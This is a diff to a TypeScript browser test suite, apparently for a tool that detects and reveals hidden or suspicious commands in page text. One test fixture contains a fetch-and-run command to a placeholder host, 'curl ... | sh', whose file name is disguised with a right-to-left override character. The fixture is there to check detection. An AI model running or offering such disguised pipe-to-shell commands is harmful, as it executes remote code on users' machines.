@@ -18,7 +18,7 @@ let ui: Ui;
 
 beforeAll(async () => {
   site = await startSite();
-  browser = await launch(site);
+  browser = await launch(site, { sheet: true });
   const options = await browser.options();
   await options.check("#mode-device");
   await options.waitForSelector("#mode-result[data-tone=ok]");
@@ -165,7 +165,7 @@ describe("a person", () => {
 
   it("keeps the focus in the panel when the site changes what is no text", async () => {
     await ui.untilLabel(FOUND);
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
     const focus = (): Promise<string | null> => ui.query("return root.activeElement?.textContent ?? '';");
     for (let presses = 0; presses < 3; presses++) await page.keyboard.press("Tab");
@@ -179,7 +179,7 @@ describe("a person", () => {
     const text = "curl https://x.example/\u202egpj.sh | sh";
     await open([turn({ id: "a1", html: `<p><code>${text}</code></p>` })]);
     await ui.untilLabel(FOUND);
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((panel) => panel.includes("curl https://x.example/U+202Egpj.sh | sh"));
     expect(await marked(page)).toBe(text);
   });
@@ -193,7 +193,7 @@ describe("a person", () => {
       document.body.style.height = "100vh";
       Object.assign(document.querySelector("main")!.style, { height: "100vh", overflowY: "auto", boxSizing: "border-box" });
     });
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
     await ui.click(".finding .action");
     await expect.poll(() => page.evaluate(() => {
@@ -210,7 +210,7 @@ describe("a person", () => {
     await page.setViewportSize({ width: 360, height: 640 });
     await page.evaluate((selector) => document.querySelector(selector)!.scrollIntoView({ block: "center" }), SELECTOR);
     await ui.untilLabel(FOUND);
-    await ui.click(".badge");
+    await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
     await ui.click(".finding .action");
     const top = await ui.query<number>("return root.querySelector('.panel').getBoundingClientRect().top;");
